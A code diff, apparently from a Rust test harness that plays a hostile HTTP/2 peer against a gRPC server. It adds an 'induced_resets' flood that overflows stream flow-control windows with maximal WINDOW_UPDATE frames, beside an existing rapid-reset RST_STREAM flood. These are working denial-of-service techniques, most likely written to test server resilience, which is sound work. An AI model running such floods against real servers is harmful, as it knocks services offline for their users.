@@ -20,7 +20,7 @@ pub type Attacking = BoxFuture<'static, ()>;
 /// Of a type that no standard defines: it must be ignored (RFC 9113, section 4.1).
 pub const UNKNOWN: u8 = 0xfa;
 
-/// The largest frame that the server takes, and what is nearly that.
+/// Bytes of a large frame; the server takes 16 KiB.
 pub const LARGE: usize = 16_000;
 
 /// Streams that one connection holds open; the server takes 256.
@@ -96,6 +96,20 @@ pub fn rapid_resets(peer: HostilePeer) -> Attacking {
             pairs.extend(raw_frame(RST_STREAM, 0, id, &8_u32.to_be_bytes()));
         }
         pairs
+    })
+}
+
+/// Whole calls whose streams the server itself has to reset, since their windows overflow.
+pub fn induced_resets(peer: HostilePeer) -> Attacking {
+    let mut ids = ids();
+    flood(peer, Vec::new(), move || {
+        let mut calls = Vec::new();
+        for id in ids.by_ref().take(50) {
+            calls.extend(head(id, PLACE));
+            calls.extend(raw_frame(DATA, END_STREAM, id, &grpc_message(b"\n\x04book")));
+            calls.extend(raw_frame(WINDOW_UPDATE, 0, id, &0x7fff_ffff_u32.to_be_bytes()));
+        }
+        calls
     })
 }
 
